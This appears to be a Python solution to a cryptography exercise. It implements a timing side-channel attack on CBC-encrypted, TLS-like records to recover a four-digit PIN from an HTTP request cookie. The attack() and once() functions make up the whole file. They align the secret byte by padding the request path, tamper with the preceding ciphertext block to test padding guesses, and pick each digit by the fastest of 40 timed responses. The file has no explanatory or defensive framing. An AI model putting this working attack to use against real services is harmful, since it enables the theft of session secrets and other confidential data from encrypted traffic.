def attack(peer):
    pin = ""
    front = "POST / HTTP/1.1\r\nCookie: pin="
    while len(pin) < 4:
        path = "x" * ((15 - len(front) - len(pin)) % 16)
        row = (len(front) + len(path) + len(pin)) // 16
        before = (front + pin)[-1]
        ticks = {}
        for guess in "0123456789":
            ticks[guess] = min(once(peer, path, row, before + guess) for _ in range(40))
        pin += min(ticks, key=ticks.get)
    return pin


def once(peer, path, row, pair):
    record = peer.request(path)
    at = 5 + 16 * row  # of the ciphertext before the row's block
    before, block = bytearray(record[at : at + 16]), record[at + 16 : at + 32]
    before[14] ^= ord(pair[0]) ^ 1
    before[15] ^= ord(pair[1]) ^ 1
    body = bytes(48) + before + block
    return peer.deliver(record[:3] + len(body).to_bytes(2) + body)
